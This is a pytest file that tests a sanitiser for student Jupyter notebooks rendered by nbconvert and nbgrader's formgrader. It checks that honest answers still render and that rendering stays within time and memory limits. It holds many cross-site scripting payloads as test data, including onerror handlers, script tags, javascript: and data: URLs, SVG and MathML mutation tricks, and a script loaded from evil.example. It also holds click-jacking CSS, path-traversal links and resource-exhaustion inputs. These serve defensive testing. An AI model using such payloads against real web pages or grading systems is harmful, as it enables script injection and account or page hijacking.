"""emlab_judge.sanitize: a student notebook rendered by nbconvert's HTMLExporter (the lab
and classic templates, and nbgrader's formgrade template as the formgrader renders a
submission) carries nothing executable from the student, and an honest answer (maths,
a table, bold, an attachment image, a matplotlib figure, a DataFrame) still shows.

"Executable" is judged on the parsed page: script elements, event-handler attributes,
javascript:/vbscript:/non-image data: URLs, frames, objects, embeds, forms, base and
meta-refresh elements, inline SVG/MathML, style that loads or evaluates. The page of an
empty notebook gives the template's own parts, which every page has; a payload passes
when the page of its notebook has no part beyond those. Each payload is also rendered
without the preprocessor, to show that it is live there (where nbconvert itself does not
already neutralise it), so the checker can fail.
"""

from __future__ import annotations

import base64
import functools
import io
import re
from collections import Counter
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from traitlets.config import Config

from conftest import REPO
from emlab_judge.sanitize import SanitizeNotebook, as_markdown, clean_html, markdown_to_html

TEMPLATES = ["lab", "classic"]
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "lowsrc",
             "dynsrc", "codebase", "cite", "ping"}
CODE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "base", "portal",
             "svg", "math", "link", "meta", "style", "template", "noscript"}
SAFE_DATA = re.compile(r"data:image/(png|jpeg|gif|webp|svg\+xml)[;,]")
BAD_CSS = re.compile(r"url\s*\(|expression\s*\(|javascript:|behavior\s*:|@import", re.I)
TINY_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


# ---------------------------------------------------------------- the checker

class _Parts(HTMLParser):
    """Every executable part of a page, as comparable tuples."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple] = []
        self._open: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = [(k.lower(), v or "") for k, v in attrs]
        named = dict(attrs)
        if tag in CODE_TAGS and tag not in ("script", "style", "meta", "link"):
            self.parts.append(("element", tag, tuple(sorted(named.items()))))
        if tag == "meta" and named.get("http-equiv", "").lower() == "refresh":
            self.parts.append(("element", "meta refresh", named.get("content", "")))
        if tag == "link" and named.get("rel", "").lower() in ("import", "stylesheet", "preload", "modulepreload"):
            self.parts.append(("element", "link", named.get("href", "")))
        for name, value in attrs:
            url = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
            if name.startswith("on"):
                self.parts.append(("handler", tag, name, value))
            elif name == "srcdoc":
                self.parts.append(("srcdoc", tag, value))
            elif name in URL_ATTRS and (url.startswith(("javascript:", "vbscript:", "livescript:"))
                                        or (url.startswith("data:") and not SAFE_DATA.match(url))):
                self.parts.append(("url", tag, name, value[:60]))
            elif name == "style" and BAD_CSS.search(value):
                self.parts.append(("css", tag, value))
        if tag in ("script", "style"):
            self._open.append((tag, named, []))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if self._open and self._open[-1][0] == tag:
            self._close(*self._open.pop())

    def handle_data(self, data):
        if self._open:
            self._open[-1][2].append(data)
        else:
            self.text.append(data)

    def _close(self, tag, named, content):
        content = "".join(content).strip()
        if tag == "script":
            self.parts.append(("script", named.get("type", ""), named.get("src", ""), content))
        elif BAD_CSS.search(content) or "__xss" in content:
            self.parts.append(("style", content[:200]))

    def close(self):
        super().close()
        while self._open:  # never closed: still an element
            self._close(*self._open.pop())


def parse(page: str) -> _Parts:
    parser = _Parts()
    parser.feed(page)
    parser.close()
    return parser


@functools.cache
def _exporter(template: str, sanitise: bool) -> HTMLExporter:
    c = Config()
    c.HTMLExporter.template_name = template
    if sanitise:
        c.HTMLExporter.preprocessors = ["emlab_judge.sanitize.SanitizeNotebook"]
    return HTMLExporter(config=c)


def render(nb, template="lab", sanitise=True) -> str:
    """The page nbconvert's HTMLExporter makes of ``nb``, with or without the preprocessor."""
    page, _ = _exporter(template, sanitise).from_notebook_node(nbformat.from_dict(nb))
    return page


_BASELINE: dict[str, Counter] = {}


def baseline(template: str) -> Counter:
    if template not in _BASELINE:
        _BASELINE[template] = Counter(parse(render(new_notebook(), template, sanitise=False)).parts)
    return _BASELINE[template]


def foreign_parts(page: str, template: str) -> list[tuple]:
    """The executable parts of ``page`` that the template's own page does not have."""
    return list((Counter(parse(page).parts) - baseline(template)).elements())


def visible_text(page: str) -> str:
    return re.sub(r"\s+", " ", " ".join(parse(page).text)).strip()


# ---------------------------------------------------------------- payloads

MARKDOWN = {
    "img onerror": '<img src=x onerror="window.__xss=1; document.title=\'XSS\'">',
    "img onerror, upper-case tag": '<IMG SRC=x ONERROR="window.__xss=1">',
    "img onerror, mixed-case attributes": '<img SRC=x OnErRoR="window.__xss=1">',
    "img onerror, entity-encoded handler": '<img src=x onerror="&#119;indow.__xss=1">',
    "img onerror, slash separated": '<img/src=x/onerror="window.__xss=1">',
    "script": "<script>window.__xss=1</script>",
    "script, mixed case": "<ScRiPt>window.__xss=1</sCrIpT>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "svg onload": '<svg onload="window.__xss=1"><circle r="4"/></svg>',
    "svg script": "<svg><script>window.__xss=1</script></svg>",
    "javascript: link": '<a href="javascript:window.__xss=1">click</a>',
    "javascript: link, upper case": '<a href="JaVaScRiPt:window.__xss=1">click</a>',
    "javascript: link, entity-encoded": '<a href="&#106;&#97;vascript:window.__xss=1">click</a>',
    "javascript: link, tab inside": '<a href="jav&#x09;ascript:window.__xss=1">click</a>',
    "markdown link javascript:": "[click](javascript:window.__xss=1)",
    "markdown link javascript:, entity-encoded": "[click](&#106;avascript:window.__xss=1)",
    "markdown image javascript:": "![x](javascript:window.__xss=1)",
    "markdown autolink javascript:": "<javascript:window.__xss=1>",
    "data:text/html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "iframe data:text/html": '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    "object": '<object data="javascript:window.__xss=1"></object>',
    "embed": '<embed src="data:text/html,<script>window.__xss=1</script>">',
    "form action": '<form action="javascript:window.__xss=1"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:window.__xss=1">go</button>',
    "style element url": '<style>body{background:url("javascript:window.__xss=1")}</style>',
    "style attribute url/expression": '<div style="background-image:url(javascript:window.__xss=1);'
                                      'width:expression(window.__xss=1)">x</div>',
    "style attribute, escaped url": '<div style="background:\\75rl(javascript:window.__xss=1)">x</div>',
    "details ontoggle": '<details open ontoggle="window.__xss=1"><summary>s</summary></details>',
    "base href": '<base href="javascript:window.__xss=1//">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style>",
    "in a table cell": '| a |\n|---|\n| <img src=x onerror="window.__xss=1"> |',
    "in a heading": '# <img src=x onerror="window.__xss=1">',
    "between maths": '$x$ <img src=x onerror="window.__xss=1"> $y$',
    "inside maths": '$x <img src=x onerror="window.__xss=1"> y$',
    # text that reads as markdown once rendered: the sanitised HTML must not be parsed again
    "escaped markdown link": "\\[click\\](javascript:window.__xss=1)",
    "markdown link in a code span": "`[click](javascript:window.__xss=1)` and `<img src=x onerror=window.__xss=1>`",
    "code block with blank lines": "```\n[click](javascript:window.__xss=1)\n\n\n<img src=x onerror=window.__xss=1>\n```",
}
# payloads nbconvert's own templates already neutralise (shown here never to regress)
INERT_WITHOUT = {"markdown link javascript:, entity-encoded", "img onerror, upper-case tag",
                 "img onerror, slash separated", "inside maths", "escaped markdown link",
                 "markdown link in a code span", "code block with blank lines"}


def _markdown_nb(source: str):
    nb = new_notebook()
    nb.cells = [new_markdown_cell(source)]
    return nb


def _output_nb(*outputs, **nb_meta):
    nb = new_notebook(metadata=nb_meta)
    cell = new_code_cell("display(x)", execution_count=1)
    cell.outputs = list(outputs)
    nb.cells = [cell]
    return nb


def _svg(payload):
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1">{payload}<circle r="4"/></svg>'


WIDGET = "application/vnd.jupyter.widget-view+json"
OUTPUTS = {
    "text/html img onerror": _output_nb(new_output("display_data", data={
        "text/html": '<b>table</b><img src=x onerror="window.__xss=1">', "text/plain": "t"})),
    "text/html script": _output_nb(new_output("execute_result", execution_count=1, data={
        "text/html": "<script>window.__xss=1</script>", "text/plain": "t"})),
    "text/html isolated": _output_nb(new_output("display_data", data={"text/html": "<script>alert(1)</script>"},
                                                metadata={"text/html": {"isolated": True}})),
    "application/javascript": _output_nb(new_output("display_data", data={
        "application/javascript": "window.__xss=1", "text/plain": "<IPython.core.display.Javascript object>"})),
    "text/javascript": _output_nb(new_output("display_data", data={"text/javascript": "window.__xss=1"})),
    "image/svg+xml onload": _output_nb(new_output("display_data", data={
        "image/svg+xml": _svg("<script>window.__xss=1</script>"), "text/plain": "<Figure>"})),
    "text/markdown img onerror": _output_nb(new_output("display_data", data={
        "text/markdown": "**md** <img src=x onerror=window.__xss=1> [x](javascript:window.__xss=1)"})),
    "widget view": _output_nb(
        new_output("display_data", data={WIDGET: {"model_id": "m1", "version_major": 2, "version_minor": 0}}),
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"m1": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
            "state": {"value": "<img src=x onerror=window.__xss=1>"}}}, "version_major": 2, "version_minor": 0}}),
    "png width attribute injection": _output_nb(new_output("display_data", data={"image/png": TINY_PNG},
                                                           metadata={"image/png": {"width": "1 onerror=window.__xss=1"}})),
    "png height attribute injection": _output_nb(new_output("display_data", data={"image/jpeg": TINY_PNG},
                                                            metadata={"image/jpeg": {"height": "1 onload=window.__xss=1"}})),
}
OUTPUTS_INERT_WITHOUT = {"text/javascript", "image/svg+xml onload"}  # nbconvert drops / encodes as <img>


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("name", list(MARKDOWN))
def test_markdown_payload_does_not_survive(name, template):
    nb = _markdown_nb(f"My answer: the bound is tight.\n\n{MARKDOWN[name]}\n\nEnd of answer.")
    page = render(nb, template)
    assert foreign_parts(page, template) == [], name
    assert "window.__xss" not in "".join(str(p) for p in foreign_parts(page, template))
    text = visible_text(page)
    assert "My answer: the bound is tight." in text and "End of answer." in text
    if name not in INERT_WITHOUT:
        assert foreign_parts(render(nb, template, sanitise=False), template), f"{name}: not live unsanitised"


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("name", list(OUTPUTS))
def test_output_payload_does_not_survive(name, template):
    nb = OUTPUTS[name]
    page = render(nb, template)
    assert foreign_parts(page, template) == [], name
    if name not in OUTPUTS_INERT_WITHOUT:
        assert foreign_parts(render(nb, template, sanitise=False), template), f"{name}: not live unsanitised"


def test_raw_cells():
    nb = new_notebook()
    nb.cells = [new_raw_cell('<img src=x onerror="window.__xss=1"><script>window.__xss=1</script>',
                             metadata={"raw_mimetype": "text/html"}),
                new_raw_cell('<img src=x onerror="window.__xss=1">')]
    for template in TEMPLATES:
        assert foreign_parts(render(nb, template), template) == []


def test_svg_figure_stays_visible_as_an_image():
    nb = OUTPUTS["image/svg+xml onload"]
    sanitised = SanitizeNotebook().preprocess(nbformat.from_dict(nb), {})[0]
    [output] = sanitised.cells[0].outputs
    assert set(output.data) == {"text/html", "text/plain"}
    src = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', output.data["text/html"]).group(1)
    assert base64.b64decode(src).decode() == nb.cells[0].outputs[0].data["image/svg+xml"]  # the figure, as an image


def test_dropped_output_leaves_a_note():
    sanitised = SanitizeNotebook().preprocess(nbformat.from_dict(OUTPUTS["text/javascript"]), {})[0]
    [output] = sanitised.cells[0].outputs
    assert output.data == {"text/plain": "[removed by the grader: text/javascript output]"}


def test_removed_code_is_visible_to_the_grader():
    assert "[removed: &lt;script&gt;]" in markdown_to_html("a <script>window.__xss=1</script> b")
    assert "__xss" not in markdown_to_html("a <script>window.__xss=1</script> b")


# ---------------------------------------------------------------- honest content

def _matplotlib_png() -> str:
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 1.5))
    ax.plot([0, 1, 2], [0, 1, 0])
    buffer = io.BytesIO()
    fig.savefig(buffer, format="png")
    plt.close(fig)
    return base64.b64encode(buffer.getvalue()).decode()


HONEST = """## Why EM climbs

The lower bound satisfies $\\mathcal{Q}(\\theta) \\le \\ell(\\theta)$, and $a<b$ whenever the
responsibilities are **strictly positive**; with *equal* weights the update is

$$\\mu_k = \\frac{\\sum_n \\gamma_{nk} x_n}{\\sum_n \\gamma_{nk}}$$

| K | log-likelihood | iterations |
|---|---:|:-:|
| 2 | -543.2 | 31 |
| 3 | -530.9 | 58 |

> A loose tolerance stops EM on the plateau.

- first point with `code`
- second point, x<sub>1</sub> and e<sup>2</sup><br>next line

```python
def e_step(x):
    return x
```

![my sketch](attachment:sketch.png)
"""


def _honest_nb():
    import pandas as pd

    nb = new_notebook()
    answer = new_markdown_cell(HONEST, metadata={"nbgrader": {"grade": True, "solution": True,
                                                              "grade_id": "q_written", "points": 2}})
    answer["attachments"] = {"sketch.png": {"image/png": TINY_PNG}}
    plot = new_code_cell("plt.plot(...)", execution_count=3)
    figure = _matplotlib_png()
    plot.outputs = [
        new_output("stream", name="stdout", text="converged after 31 iterations\n"),
        new_output("display_data", data={"image/png": figure, "text/plain": "<Figure size 200x150>"},
                   metadata={"image/png": {"width": 200}}),
    ]
    frame = pd.DataFrame({"mu": [0.5, -0.25], "pi": [0.6, 0.4]})
    table = new_code_cell("df", execution_count=4)
    table.outputs = [new_output("execute_result", execution_count=4,
                                data={"text/html": frame._repr_html_(), "text/plain": repr(frame)})]
    latex = new_code_cell("Math(...)", execution_count=5)
    latex.outputs = [new_output("display_data", data={"text/latex": "$\\gamma_{nk}$", "text/plain": "g"})]
    nb.cells = [answer, plot, table, latex]
    return nb, figure


@pytest.mark.parametrize("template", TEMPLATES)
def test_honest_content_still_renders(template):
    nb, figure = _honest_nb()
    page = render(nb, template)
    plain = render(nb, template, sanitise=False)
    assert foreign_parts(page, template) == []
    # the answer's words and maths read as they do unsanitised (maths reaches MathJax unchanged)
    answer_text = visible_text(page)
    assert answer_text == visible_text(plain)
    for text in ["Why EM climbs", "$a&lt;b$", "$$\\mu_k = \\frac{\\sum_n \\gamma_{nk} x_n}{\\sum_n \\gamma_{nk}}$$",
                 "$\\mathcal{Q}(\\theta) \\le \\ell(\\theta)$"]:
        assert text in page, text
    assert "<strong>strictly positive</strong>" in page and "<em>equal</em>" in page
    assert re.search(r"<th[^>]*>log-likelihood</th>", page) and re.search(r"<td[^>]*>-530.9</td>", page)
    assert 'style="text-align: right"' in page  # the markdown table's alignment
    assert "<blockquote>" in page and "<sub>1</sub>" in page and "<br" in page and "<code>code</code>" in page
    assert '<span class="k">def</span>' in page  # highlighted code block
    # the attachment image and the matplotlib figure, as images
    assert f'src="data:image/png;base64,{TINY_PNG}"' in page
    assert f"data:image/png;base64,{figure}" in page and 'width="200"' in page
    # the DataFrame's table, without its style sheet turning into text
    assert '<table border="1" class="dataframe">' in page and "-0.25" in page
    assert ".dataframe tbody" not in answer_text
    assert "converged after 31 iterations" in answer_text and "$\\gamma_{nk}$" in answer_text


def test_sanitised_markdown_passes_through_the_renderer_unchanged():
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    nb, _ = _honest_nb()
    fragment = markdown_to_html(HONEST, nb.cells[0].attachments)
    rendered = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(as_markdown(fragment))
    assert rendered.strip() == as_markdown(fragment)
    assert clean_html(fragment) == fragment  # cleaning twice changes nothing


def test_missing_attachment_does_not_break_the_page():
    page = render(_markdown_nb("see ![fig](attachment:nothere.png) here"))
    assert "see" in visible_text(page) and foreign_parts(page, "lab") == []


# ---------------------------------------------------------------- where it runs

def _course_config() -> Config:
    from traitlets.config.loader import PyFileConfigLoader

    return PyFileConfigLoader("nbgrader_config.py", path=str(REPO / "autograder")).load_config()


def _sanitisers(exporter) -> list:
    return [p for p in exporter._preprocessors if isinstance(p, SanitizeNotebook) and p.enabled]


def test_course_config_puts_the_formgrader_and_feedback_through_it():
    from nbgrader.converters import GenerateFeedback
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    config = _course_config()
    # the formgrader: HTMLExporter(config=self.config) after its own extra config
    formgrader_config = Config(config)
    formgrader_config.merge(FormgradeExtension().build_extra_config())
    formgrader_exporter = HTMLExporter(config=formgrader_config)
    assert len(_sanitisers(formgrader_exporter)) == 1
    # feedback: once, from GenerateFeedback.preprocessors, after ClearHiddenTests
    names = list(config.GenerateFeedback.preprocessors)
    assert names.index("emlab_judge.sanitize.SanitizeNotebook") > names.index(
        "nbgrader.preprocessors.ClearHiddenTests")
    feedback = GenerateFeedback(config=config)
    assert _sanitisers(HTMLExporter(parent=feedback, config=config)) == []


def test_formgrade_template_page_is_safe():
    """The formgrader's own template, with a hostile grade_id and student id in its resources."""
    from nbgrader.server_extensions.formgrader import handlers
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    config = _course_config()
    config.merge(FormgradeExtension().build_extra_config())
    nb = _markdown_nb(MARKDOWN["img onerror"] + "\n\nhonest words")
    nb.cells[0].metadata["nbgrader"] = {"solution": True, "grade": True, "points": 1, "schema_version": 3,
                                        "grade_id": 'q"><img src=x onerror=window.__xss=1>'}
    resources = {"assignment_id": "01-two-means", "notebook_id": "two_means", "submission_id": "abc", "index": 0,
                 "total": 1, "base_url": "", "student": "<img src=x onerror=window.__xss=2>",
                 "last_name": "", "first_name": "", "notebook_path": 'autograded/x"onmouseover="window.__xss=3'}

    def exporter(sanitise):
        c = Config(config)
        c.HTMLExporter.preprocessors = ["emlab_judge.sanitize.SanitizeNotebook"] if sanitise else []
        return HTMLExporter(config=c)

    def page(sanitise):
        return exporter(sanitise).from_notebook_node(nbformat.from_dict(nb), resources=dict(resources))[0]

    base = Counter(parse(exporter(False).from_notebook_node(new_notebook(), resources=dict(
        resources, student="s", notebook_path="p"))[0]).parts)
    assert handlers.template_path  # the formgrade template is nbgrader's own
    assert list((Counter(parse(page(True)).parts) - base).elements()) == []
    assert "honest words" in visible_text(page(True))
    assert list((Counter(parse(page(False)).parts) - base).elements())  # live without it


# ---------------------------------------------------------------- click-jacking: no style that sizes or moves

# what inline CSS may do to a student's element: colour, weight, slant, decoration and
# alignment of text, thin borders; judged on the rendered page
HARMLESS_CSS = {"color", "background-color", "font-weight", "font-style", "font-variant", "font-family",
                "text-align", "text-decoration", "text-transform", "white-space", "border-collapse", "list-style-type",
                "vertical-align", "border", "border-top", "border-right", "border-bottom", "border-left",
                "border-color", "border-style", "border-width"}
CLICKJACK = {
    "covering link": '<a href="https://evil.example/" style="display:block;position:fixed;top:0;left:0;width:100%;'
                     'height:3000px;z-index:9999;opacity:0">x</a>',
    "padded link": '<a href="https://evil.example/" style="padding:2000px;margin:-1000px">x</a>',
    "huge font": '<a href="https://evil.example/" style="font-size:3000px;line-height:3000px">x</a>',
    "transformed": '<a href="https://evil.example/" style="transform:scale(100);translate:10px 10px">x</a>',
    "thick border": '<a href="https://evil.example/" style="border:2000px solid transparent">x</a>',
    "wide border": '<a href="https://evil.example/" style="border-width:3000px;border-style:solid">x</a>',
    "shifted": '<a href="https://evil.example/" style="vertical-align:-3000px;text-indent:-9999px">x</a>',
    "sized with !important": '<span style="WIDTH: 5000PX !important; Height : 5000px">x</span>',
}


def _style_problems(page: str, template: str) -> list[str]:
    """Declarations in the page's style attributes (beyond the template's own) that size,
    position, move or hide an element."""
    own = Counter(re.findall(r'style="([^"]*)"', render(new_notebook(), template, sanitise=False)))
    found = Counter(re.findall(r"""style=(?:"([^"]*)"|'([^']*)')""", page))
    styles = Counter({"".join(k): v for k, v in found.items()}) - own
    problems = []
    for style in styles:
        for declaration in filter(str.strip, style.split(";")):
            prop, _, value = (part.strip().lower() for part in declaration.partition(":"))
            widths = [float(w) for w in re.findall(r"(-?[\d.]+)\s*px", value)]
            if (prop not in HARMLESS_CSS or any(abs(w) > 4 for w in widths)
                    or (prop == "vertical-align" and not value.replace("-", "").isalpha())):
                problems.append(declaration.strip())
    return problems


@pytest.mark.parametrize("name", list(CLICKJACK))
def test_no_style_sizes_or_positions_a_students_element(name):
    nb = _markdown_nb(f"My answer.\n\n{CLICKJACK[name]}\n\nEnd of answer.")
    assert _style_problems(render(nb, "lab", sanitise=False), "lab"), f"{name}: not live unsanitised"
    for template in TEMPLATES:
        page = render(nb, template)
        assert _style_problems(page, template) == [], name
        assert "End of answer." in visible_text(page)


def test_harmless_style_and_sizes_stay():
    nb = _markdown_nb('<span style="color: red; font-weight: bold">warm</span> and '
                      '<span style="border: 1px solid black; text-align: center">boxed</span>\n\n'
                      '<img src="attachment:sketch.png" width="300">')
    nb.cells[0]["attachments"] = {"sketch.png": {"image/png": TINY_PNG}}
    page = render(nb)
    assert 'style="color: red; font-weight: bold"' in page
    assert 'style="border: 1px solid black; text-align: center"' in page
    assert re.search(r'<img[^>]*width="300"', page)


def test_image_and_table_attributes_do_not_float_or_size_freely():
    cleaned = clean_html('<img src="x.png" width="1 onerror=alert(1)" height="9e9" align="left">'
                         '<table align="right"><tr><td align="center">c</td></tr></table>')
    assert "align" not in cleaned.split("<td")[0] and "width" not in cleaned and "height" not in cleaned
    assert '<td align="center">' in cleaned


# ---------------------------------------------------------------- links that climb out of the submission's folder

TRAVERSAL = {
    "encoded slashes": "[derivation](..%2F..%2F..%2Fsubmitted%2Fbob%2F01-two-means%2Fderivation.html)",
    "encoded dots": '<a href="/formgrader/submissions/abc/%2e%2e/%2e%2e%2fsubmitted/bob/x.html">x</a>',
    "double encoded": "[x](x%252e%252e%252fy%252f%252e%252e%252fz.html)",
    "absolute URL": "[x](http://localhost:8888/formgrader/submissions/abc/..%2F..%2Fsubmitted%2Fx.html)",
    "plain dots": "[x](../../submitted/bob/01-two-means/derivation.html)",
    "backslash": '<a href="..\\..\\submitted\\x.html">x</a>',
}


def _climbing_urls(page: str) -> list[str]:
    from urllib.parse import unquote

    urls = []
    for url in re.findall(r"""(?:href|src)=["']([^"']*)["']""", page):
        path = re.split(r"[?#]", url.replace("&amp;", "&"), maxsplit=1)[0]
        for _ in range(3):
            path = unquote(path)
        if "\\" in path or ".." in path.split("/"):
            urls.append(url)
    return urls


@pytest.mark.parametrize("name", list(TRAVERSAL))
def test_no_link_climbs_out_of_the_submissions_folder(name):
    nb = _markdown_nb(f"See {TRAVERSAL[name]} and [my data](data.csv).")
    assert _climbing_urls(render(nb, sanitise=False)), f"{name}: not live unsanitised"
    page = render(nb)
    assert _climbing_urls(page) == []
    assert 'href="data.csv"' in page


# ---------------------------------------------------------------- cost: bounded time, size and memory

PARAGRAPH = ("The responsibilities satisfy $\\gamma_{nk} = \\pi_k \\mathcal{N}(x_n \\mid \\mu_k) / \\sum_j \\pi_j$ "
             "and **the bound** $x^2 \\le \\ell(\\theta)$ holds; see [the notes](https://example.org/em#bound).\n\n")
NOTE = "shown as plain text by the grader"


def _repeat(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def test_a_1_mib_markdown_cell_is_shown_as_text_quickly():
    import time

    source = '<img src=x onerror="window.__xss=1">\n\n' + _repeat(PARAGRAPH, 2 ** 20)
    nb = _markdown_nb(source)
    start = time.perf_counter()
    page = render(nb)
    assert time.perf_counter() - start < 20
    assert NOTE in page and "1,024 KiB" in page
    assert foreign_parts(page, "lab") == []
    assert "<strong>the bound</strong>" not in page and 'href="https://example.org/em#bound"' not in page
    assert "&lt;img src=x onerror=" in page and "The responsibilities satisfy" in page  # its start, escaped
    assert len(page) < 2 ** 20


def test_a_large_html_output_is_shown_as_text():
    big = "<table>" + "<tr><td style='color:red'>1</td></tr>" * 40000 + "</table><img src=x onerror=window.__xss=1>"
    page = render(_output_nb(new_output("display_data", data={"text/html": big, "text/plain": "t"})))
    assert NOTE in page and foreign_parts(page, "lab") == []
    assert "<td style" not in page


def test_the_notebook_renders_a_bounded_amount():
    nb = new_notebook()
    nb.cells = [new_markdown_cell(f"Cell {i}. " + _repeat(PARAGRAPH, 200 * 1024)) for i in range(14)]
    sanitised = SanitizeNotebook().preprocess(nbformat.from_dict(nb), {})[0]
    rendered = [NOTE not in c.source for c in sanitised.cells]
    assert rendered[:3] == [True] * 3 and not any(rendered[-5:])
    assert "rendered per notebook" in sanitised.cells[-1].source and "Cell 13." in sanitised.cells[-1].source


# Each runs in a child process with a time and memory limit: before the fix each of these
# took minutes or gigabytes (a 2 MiB cell took 107 s and 593 MB).
_COSTLY = r'''
import json, resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (3 * 1024 ** 3, 3 * 1024 ** 3))
sys.path[:0] = [sys.argv[1]]
import nbformat
from nbconvert import HTMLExporter
from nbformat.v4 import new_markdown_cell, new_notebook
from traitlets.config import Config

def repeat(unit, size):
    return (unit * (size // len(unit) + 1))[:size]

K = 250 * 1024
png = "iVBORw0KGgo" + "A" * (200 * 1024)
shapes = {
    "long list": repeat("- item with $x_1$\n  - sub item\n", K),
    "unclosed tags": repeat("<b>x <i>y <div>z ", K),
    "unterminated attribute": repeat('<p title="', K),
    "unterminated comment": "text " + repeat("<!-- a ", K),
    "reference link repeated": "[r]: https://example.org/" + "a" * 20000 + "\n\n" + repeat("[r] ", K),
    "brackets on one line": repeat("<script></script> [a] ", K),
    "headings": repeat("# x\n", K),
    "wide table": "| a | b |\n|---|---|\n" + repeat("| 1 | 2 |\n", K),
    "attachment repeated": repeat("![a](attachment:a.png) ", K),
}
config = Config()
config.HTMLExporter.preprocessors = ["emlab_judge.sanitize.SanitizeNotebook"]
exporter = HTMLExporter(config=config)
for name, source in shapes.items():
    nb = new_notebook()
    cell = new_markdown_cell(source)
    cell["attachments"] = {"a.png": {"image/png": png}}
    nb.cells = [cell]
    start = time.perf_counter()
    page, _ = exporter.from_notebook_node(nb)
    print(json.dumps([name, time.perf_counter() - start, len(page)]), flush=True)
'''


def test_costly_markdown_is_sanitised_in_bounded_time_and_memory(tmp_path):
    import json
    import subprocess
    import sys

    script = tmp_path / "costly.py"
    script.write_text(_COSTLY)
    done = subprocess.run([sys.executable, str(script), str(REPO / "autograder")], capture_output=True, text=True,
                          timeout=300)
    results = {name: (seconds, size) for name, seconds, size in map(json.loads, done.stdout.splitlines())}
    assert done.returncode == 0, done.stderr[-2000:]
    assert len(results) == 9
    for name, (seconds, size) in results.items():
        assert seconds < 20 and size < 24 * 2 ** 20, (name, seconds, size)
